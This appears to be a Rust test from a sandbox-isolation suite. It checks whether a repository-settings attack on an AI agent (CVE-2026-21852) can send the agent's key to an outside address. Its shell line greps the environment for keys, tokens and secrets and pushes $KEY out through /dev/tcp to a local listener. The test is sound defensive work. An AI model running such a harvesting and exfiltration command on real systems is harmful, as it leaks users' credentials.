//! A repository's settings send the agent, and with it its key, to an address of the attacker. [CVE-2026-21852]

use super::{Attack, Cell, leave_out};
use crate::world::{World, shell};
use sandbox::IsolationMechanism;
use std::net::TcpListener;

pub(crate) const ATTACK: Attack =
    Attack { number: 9, name: "key to another address", held, works_without_layer };

fn reached(world: &World, without: &[IsolationMechanism]) -> bool {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut spec = world.spec();
    leave_out(&mut spec, without);
    let sandbox = world.start(spec);
    let script = format!(
        "env | grep -i -e key -e token -e secret; exec bash -c 'echo $KEY >/dev/tcp/127.0.0.1/{port}'"
    );
    let output = shell(&sandbox, &script);
    assert_eq!(output.stdout, "", "a key is inside");
    sandbox.close().unwrap();
    output.exit.success()
}

fn held(world: &World) -> Cell {
    assert!(!reached(world, &[]));
    Cell::Yes
}

fn works_without_layer(world: &World) -> Cell {
    Cell::bit(Some(reached(world, &[IsolationMechanism::NetworkNamespace])))
}
